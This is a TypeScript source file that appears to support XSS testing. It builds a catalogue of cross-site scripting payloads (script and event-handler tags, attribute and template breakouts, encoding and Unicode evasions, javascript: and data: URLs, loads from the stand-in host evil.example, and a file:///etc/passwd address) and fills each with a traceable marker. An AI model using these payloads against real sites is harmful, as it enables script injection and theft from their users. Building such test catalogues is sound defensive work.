/*
 * Texts that become markup or scripts where they are not escaped. `RUN` is the script to
 * run, `HOST` the host to contact; each carries a unique word by which it is found.
 */

const elements = [
  '<script>RUN</script>',
  '<script src=https://HOST/x.js></script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script type=module>RUN</script>',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href=https://HOST/x.js /></svg>',
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  '<IMG SRC=x ONERROR=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src=https://HOST/pixel.gif>',
  '<img srcset="https://HOST/pixel.gif 1x">',
  '<img src="javascript:RUN">',
  '<img src=x onerror=&#82;UN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
  '<math><a href="javascript:RUN">x</a></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<video><source onerror=RUN></video>',
  '<video src=https://HOST/film.mp4 onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<div style="animation-name:x" onanimationstart=RUN>',
  '<div style="background:url(https://HOST/bg.png)">',
  '<p onpointerenter=RUN style="position:fixed;inset:0">',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src=https://HOST/frame></iframe>',
  '<object data="javascript:RUN"></object>',
  '<object data=https://HOST/x.swf></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<a href="java&#09;script:RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<form action="javascript:RUN"><button autofocus>x</button></form>',
  '<form action=https://HOST/form><input type=submit></form>',
  '<button formaction="javascript:RUN">x</button>',
  '<isindex action="javascript:RUN">',
  '<base href=https://HOST/>',
  '<meta http-equiv=refresh content="0;url=https://HOST/">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<link rel=stylesheet href=https://HOST/x.css>',
  '<link rel=prefetch href=https://HOST/x>',
  '<style>@import "https://HOST/x.css";</style>',
  '<style>*{background:url(https://HOST/x)}</style>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onclick="RUN">',
  '<custom-element onclick=RUN tabindex=1 autofocus>',
]

const breakouts = [
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '" onmouseover="RUN" x="',
  "' onfocus='RUN' autofocus x='",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</script><script>RUN</script>',
  '--><script>RUN</script><!--',
  ']]><script>RUN</script>',
  '"};RUN;//',
  "';RUN;//",
  '\\";RUN;//',
  '$'.concat('{RUN}'),
  '`$'.concat('{RUN}`'),
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '<%= RUN %>',
  '#{RUN}',
  '[x](javascript:RUN)',
  '![x](https://HOST/pixel.gif)',
  '<https://HOST/>',
  '$t(RUN)',
  '{{- RUN}}',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '＜script＞RUN＜/script＞',
  '\u202e>tpircs/<RUN>tpircs<',
  '<scr\u200bipt>RUN</scr\u200bipt>',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"https://HOST/x.js"}}',
]

const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'javascript://HOST/%0aRUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:image/svg+xml,<svg onload=RUN>',
  'blob:https://HOST/x',
  'file:///etc/passwd',
  'https://HOST/pixel.gif',
  '//HOST/pixel.gif',
  '\\\\HOST\\pixel.gif',
  '/\\HOST/pixel.gif',
  'https:HOST/pixel.gif',
  'https://127.0.0.1@HOST/pixel.gif',
  'http://HOST:80/pixel.gif',
  '../../../../pixel.gif"onerror="RUN',
  'x" onerror="RUN',
  'ftp://HOST/pixel.gif',
]

export const evilHost = 'evil.example'

const wordOf = (n: number) => `xss${String(n).padStart(5, '0')}x`

/** Deterministic by number. Its word is in the script and in the host. */
function fill(written: string, n: number): string {
  const word = wordOf(n)
  return `${written
    .replaceAll('RUN', `window.${word}=alert(1)`)
    .replaceAll('HOST', `${word}.${evilHost}`)} ${word}`
}

const catalogue = [...elements, ...breakouts, ...addresses]

/** The catalogue first; beyond it, random combinations of its parts. */
export function makePayloads(
  from: number,
  count: number,
  pick: (parts: readonly string[]) => string,
): { text: string; word: string }[] {
  return Array.from({ length: count }, (_, index) => {
    const n = from + index
    const written = catalogue[n] ?? `${pick(breakouts)}${pick(elements)}${pick(addresses)}`
    return { text: fill(written, n), word: wordOf(n) }
  })
}
